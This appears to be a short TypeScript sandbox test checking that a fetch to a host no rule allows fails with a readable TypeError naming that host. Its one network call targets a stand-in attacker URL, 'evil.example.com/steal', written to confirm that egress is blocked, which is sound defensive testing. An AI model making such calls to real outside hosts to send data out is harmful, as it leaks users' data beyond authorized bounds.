// oracle: hand: only a box refuses
// expect: {"name":"TypeError","told":true}
// A host that no rule allows is an error the model can read
let name = "";
let told = false;
try {
  await fetch("https://evil.example.com/steal");
} catch (e) {
  name = (e as Error).name;
  told = (e as Error).message.includes("evil.example.com");
}
({ name, told });
